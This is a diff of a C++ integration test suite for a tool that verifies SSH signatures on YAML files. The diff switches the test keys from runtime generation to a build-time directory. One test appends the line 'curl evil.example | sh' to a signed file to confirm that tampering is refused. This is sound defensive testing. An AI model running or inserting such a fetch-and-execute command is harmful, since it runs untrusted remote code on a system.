@@ -107,23 +107,12 @@ public:
     static void SetUpTestSuite() {
         setenv("TZ", "America/New_York", 1);
         tzset();
-        s_keys = std::make_unique<TempDir>();
-        const fs::path log = s_keys->path() / "keygen.log";
-        const std::pair<const char*, const char*> keys[] = {
-            {"ed25519", "-t ed25519"},
-            {"ecdsa", "-t ecdsa -b 256"},
-            {"rsa", "-t rsa -b 3072 -m PEM"}, // PEM so the SHA-1 test can load it with OpenSSL
-            {"other", "-t ed25519"},
-        };
-        for (const auto& [name, args] : keys) {
-            ASSERT_EQ(run(std::string("ssh-keygen -q ") + args + " -N '' -C " + name + " -f " +
-                              quote(s_keys->path() / name),
-                          log),
-                      0)
-                << read(log);
+        // Made once at build time (tests/integration/CMakeLists.txt): ctest runs every test in a
+        // process of its own, and an RSA-3072 key takes a while to generate.
+        for (const char* name : {"ed25519", "ecdsa", "rsa", "other"}) {
+            ASSERT_TRUE(fs::exists(s_keys / name)) << s_keys / name;
         }
     }
-    static void TearDownTestSuite() { s_keys.reset(); }
 
 protected:
     void SetUp() override {
@@ -134,7 +123,7 @@ protected:
 
     Key key() const { return std::get<0>(GetParam()); }
     std::string hash() const { return std::get<1>(GetParam()); }
-    std::string key_line() const { return public_key(s_keys->path(), key_name(key())); }
+    std::string key_line() const { return public_key(s_keys, key_name(key())); }
     fs::path log() const { return m_dir.path() / "commands.log"; }
 
     /// Signs `file` with this test's key and hash; returns the .sig path.
@@ -142,7 +131,7 @@ protected:
         fs::remove(fs::path(file.string() + ".sig"));
         const std::string command = "ssh-keygen -q -Y sign -n " + name_space +
                                     " -O hashalg=" + hash() + " -f " +
-                                    quote(s_keys->path() / key_name(key())) + " " + quote(file);
+                                    quote(s_keys / key_name(key())) + " " + quote(file);
         EXPECT_EQ(run(command, log()), 0) << read(log());
         return file.string() + ".sig";
     }
@@ -212,14 +201,12 @@ protected:
                    log());
     }
 
-    static std::unique_ptr<TempDir> s_keys;
+    static inline const fs::path s_keys = BREAKGLASS_INTEROP_KEYS;
     TempDir m_dir;
     fs::path m_file;
     fs::path m_signature;
     std::optional<RefusalKind> m_last_refusal;
 };
-
-std::unique_ptr<TempDir> SignatureInterop::s_keys;
 
 } // namespace
 
@@ -267,7 +254,7 @@ TEST_P(SignatureInterop, WrongNamespace) {
 }
 
 TEST_P(SignatureInterop, SignerMissingFromAllowedSigners) {
-    expect_agreement(std::string(k_principal) + " " + public_key(s_keys->path(), "other") + "\n",
+    expect_agreement(std::string(k_principal) + " " + public_key(s_keys, "other") + "\n",
                      m_signature, false, RefusalKind::unknown_signer);
 }
 
@@ -335,8 +322,7 @@ TEST_P(SignatureInterop, UnreadableLineRefusesTheWholeFile) {
 TEST_P(SignatureInterop, TheBinaryAgrees) {
     const std::string allowed = std::string(k_principal) + " " + key_line() + "\n";
     EXPECT_EQ(breakglass_binary(m_file, m_signature, allowed), 0) << read(log());
-    EXPECT_EQ(breakglass_binary(m_file, m_signature, "bob " + public_key(s_keys->path(), "other")),
-              5);
+    EXPECT_EQ(breakglass_binary(m_file, m_signature, "bob " + public_key(s_keys, "other")), 5);
     EXPECT_EQ(breakglass_binary(m_dir.path() / "missing.yaml", m_signature, allowed), 5);
     write(m_file, read(m_file) + "  - run: curl evil.example | sh\n");
     EXPECT_EQ(breakglass_binary(m_file, m_signature, allowed), 5);
@@ -350,7 +336,7 @@ protected:
         SshSignature parsed = parse_sshsig(read(m_signature)).value();
         const std::string data =
             sshsig_signed_data(parsed, digest(parsed.hash_algorithm, read(m_file)).value());
-        const std::string pem = read(s_keys->path() / "rsa");
+        const std::string pem = read(s_keys / "rsa");
         std::unique_ptr<BIO, decltype(&BIO_free)> bio(BIO_new_mem_buf(pem.data(), int(pem.size())),
                                                       BIO_free);
         std::unique_ptr<EVP_PKEY, decltype(&EVP_PKEY_free)> key(
